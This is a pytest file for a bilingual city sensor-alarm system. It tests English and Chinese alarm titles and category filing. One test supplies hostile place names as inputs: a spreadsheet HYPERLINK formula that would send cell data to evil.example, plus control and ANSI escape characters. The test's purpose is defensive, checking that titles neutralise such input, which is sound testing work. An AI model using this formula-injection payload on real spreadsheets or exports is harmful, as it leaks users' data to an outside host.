"""A sensor's alarm reads as words with the place, in both languages, never as a metric id and a
sensor id; it is filed under its domain's sensor-alarm category, never a hotline one (§4.10)."""

from __future__ import annotations

import math

import pytest

from city import alarm_categories, city_folder, load_city, read_categories, report_categories
from city.model import CityError
from incidents.alarms import MAX_PLACE_CHARS, AlarmFacts, alarm_title, alarm_titles
from incidents.responders import unit_kinds_for
from indicators.registry import metric_domains, registry
from indicators.rules import load_rules
from vocabulary.messages import CHINESE, ENGLISH

RULES = load_rules()


def facts_for(metric: str, level: int, value: float, place: str | None = "Arden Heights", *,
              daytime: bool | None = None, place_zh: str | None = None) -> AlarmFacts:
    """The facts as the indicators process gathers them: from the metric's (first) rule."""
    rule = RULES.noise.rule("3", bool(daytime)) if metric == "noise_dba" else RULES.metrics[metric][-1]
    return AlarmFacts(metric=metric, level=level, value=value, threshold=rule.red if level == 2 else rule.amber,
                      unit=rule.unit, higher_is_worse=rule.higher_is_worse, window_s=rule.window_s,
                      daytime=daytime, place=place, place_zh=place_zh)


def test_the_noise_alarm_of_the_demo_reads_as_the_spec_says() -> None:
    titles = alarm_titles(facts_for("noise_dba", 1, 58.7, daytime=False))
    assert titles == {ENGLISH: "Noise 58.7 dB(A) at Arden Heights, limit 55 at night",
                      CHINESE: "噪声 58.7 dB(A)（Arden Heights），夜间限值 55"}


@pytest.mark.parametrize(("metric", "level", "value", "english", "chinese"), [
    ("aqi", 2, 212.4, "Air quality index 212 at Arden Heights, red limit 201",
     "空气质量指数 212（Arden Heights），红色限值 201"),
    ("tpi", 1, 6.54, "Congestion index 6.5 at Arden Heights, limit 6", "交通拥堵指数 6.5（Arden Heights），限值 6"),
    ("water_depth_cm", 2, 31.6, "Water depth 32 cm at Arden Heights, red limit 30",
     "积水深度 32 cm（Arden Heights），红色限值 30"),
    ("rain_mm", 2, 112.3, "Rainfall 112 mm in 3 h at Arden Heights, red limit 100",
     "降雨量 3 小时内 112 mm（Arden Heights），红色限值 100"),
    ("methane_lel", 1, 22.4, "Methane 22 % LEL at Arden Heights, limit 20",
     "甲烷浓度 22 % LEL（Arden Heights），限值 20"),
    ("water_pressure_kpa", 2, 131.2, "Water pressure 131 kPa at Arden Heights, red minimum 140",
     "供水压力 131 kPa（Arden Heights），红色下限 140"),
    ("power_load_pct", 1, 88.2, "Power load 88 % at Arden Heights, limit 85",
     "电力负荷 88 %（Arden Heights），限值 85"),
    ("crowd_density", 2, 5.43, "Crowd density 5.4 persons/m² at Arden Heights, red limit 5",
     "人群密度 5.4 persons/m²（Arden Heights），红色限值 5"),
    ("temperature_c", 1, 36.25, "Temperature 36.2 °C at Arden Heights, limit 35",
     "气温 36.2 °C（Arden Heights），限值 35"),
])
def test_every_domain_reads_in_words_in_both_languages(metric: str, level: int, value: float, english: str,
                                                       chinese: str) -> None:
    assert alarm_titles(facts_for(metric, level, value)) == {ENGLISH: english, CHINESE: chinese}


def test_every_measured_domain_has_words_and_no_title_is_a_metric_id() -> None:
    judged = {*RULES.metrics, "noise_dba"}
    assert {metric_domains()[metric] for metric in judged} == registry().measured_domains
    for metric in judged:
        for title in alarm_titles(facts_for(metric, 2, 99.0, daytime=True)).values():
            assert metric not in title and "sensor" not in title, title


def test_noise_says_which_limit_day_or_night_and_red_says_red() -> None:
    assert alarm_title(facts_for("noise_dba", 2, 71.04, daytime=True), ENGLISH) == \
        "Noise 71.0 dB(A) at Arden Heights, red limit 75 by day"
    assert alarm_title(facts_for("noise_dba", 2, 71.04, daytime=True), CHINESE) == \
        "噪声 71.0 dB(A)（Arden Heights），昼间红色限值 75"


def test_the_chinese_title_takes_the_chinese_place_name_when_the_city_has_one() -> None:
    facts = facts_for("methane_lel", 1, 25, place="Caohejing", place_zh="漕河泾")
    assert alarm_titles(facts) == {ENGLISH: "Methane 25 % LEL at Caohejing, limit 20",
                                   CHINESE: "甲烷浓度 25 % LEL（漕河泾），限值 20"}


@pytest.mark.parametrize("place", [None, "", "  \n\t "])
def test_a_missing_place_name_leaves_the_place_out(place: str | None) -> None:
    assert alarm_titles(facts_for("methane_lel", 1, 25, place)) == {ENGLISH: "Methane 25 % LEL, limit 20",
                                                                    CHINESE: "甲烷浓度 25 % LEL，限值 20"}


@pytest.mark.parametrize("value", [None, math.nan, math.inf])
def test_an_unknown_value_is_left_out_never_shown_as_nan(value: float | None) -> None:
    titles = alarm_titles(facts_for("noise_dba", 1, value, daytime=False))  # type: ignore[arg-type]
    assert titles == {ENGLISH: "Noise at Arden Heights, limit 55 at night",
                      CHINESE: "噪声（Arden Heights），夜间限值 55"}
    unknown = AlarmFacts(metric="methane_lel", level=1, value=None, threshold=math.nan)
    assert alarm_titles(unknown) == {ENGLISH: "Methane", CHINESE: "甲烷浓度"}


def test_a_metric_a_city_added_reads_as_its_domain_or_its_name() -> None:
    assert alarm_title(AlarmFacts(metric="lux", level=1, value=3.0, threshold=2.0, unit="lx"), ENGLISH) == \
        "lux 3.0 lx, limit 2"


@pytest.mark.parametrize("name", [
    "N" * 200,
    "静安寺街道" * 40,
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "Line one\nLine two\r\x00\x1b[31m\u2028end",
])
def test_hostile_place_names_stay_one_short_line_after_the_quantity(name: str) -> None:
    for language in (ENGLISH, CHINESE):
        title = alarm_title(facts_for("methane_lel", 2, 64, name), language)
        assert title.startswith(("Methane 64 % LEL", "甲烷浓度 64 % LEL"))  # never a formula at the start
        assert title.endswith(("red limit 50", "红色限值 50"))  # the threshold survives a long name
        assert len(title) <= 200 and title.isprintable()
        if language == ENGLISH:
            place = title.split(" at ", 1)[1].rsplit(",", 1)[0]
        else:
            place = title.split("（", 1)[1].rsplit("）", 1)[0]
        assert len(place) <= MAX_PLACE_CHARS


# -- categories ----------------------------------------------------------------------------------

@pytest.mark.parametrize("city_id", ["nyc", "shanghai"])
def test_each_bundled_city_files_every_measured_domain_under_a_sensor_alarm_category(city_id: str) -> None:
    categories = read_categories(city_folder(city_id) / "categories.toml")
    alarms = alarm_categories(categories)
    assert set(alarms) == registry().measured_domains
    assert alarms["noise"] == "noise_alarm" and alarms["gas"] == "gas_alarm"
    for domain, key in alarms.items():
        category = categories[key]
        assert category.name and category.name_zh and category.domain == domain
        assert key not in report_categories(categories)
        assert unit_kinds_for(key, domain)  # its own responders, listed by category
    assert "noise_complaint" in report_categories(categories)  # the hotline keeps its own
    assert categories["noise_alarm"].name == "Noise level exceeded"
    assert categories["gas_alarm"].name == "Methane above 20 % LEL"
    assert categories["gas_alarm"].sla_minutes["major"] < categories["gas_leak"].sla_minutes["major"]


def test_the_indicators_file_alarms_only_under_sensor_alarm_categories() -> None:
    from cityops.vitals import VitalsContext

    city = load_city(city_folder("nyc"))
    assert VitalsContext.for_city(city).category_of_domain == alarm_categories(city.categories)
    assert "noise_complaint" not in VitalsContext.for_city(city).category_of_domain.values()


@pytest.mark.parametrize(("toml", "problem"), [
    ('[a]\nname = "A"\ndomain = "noise"\nsensor_alarm = "yes"\nsla_minutes = {minor = 1, major = 1, critical = 1}',
     "sensor_alarm must be true or false"),
    ('[a]\nname = "A"\ndomain = "public_safety"\nsensor_alarm = true\n'
     'sla_minutes = {minor = 1, major = 1, critical = 1}',
     "a domain that sensors measure"),
    ('[a]\nname = "A"\ndomain = "noise"\nsensor_alarm = true\nsla_minutes = {minor = 1, major = 1, critical = 1}\n'
     '[b]\nname = "B"\ndomain = "noise"\nsensor_alarm = true\nsla_minutes = {minor = 1, major = 1, critical = 1}',
     "already the sensor_alarm category"),
])
def test_a_bad_sensor_alarm_setting_is_one_line_naming_the_category(tmp_path, toml: str, problem: str) -> None:
    path = tmp_path / "categories.toml"
    path.write_text(toml, encoding="utf-8")
    with pytest.raises(CityError, match=problem):
        read_categories(path)
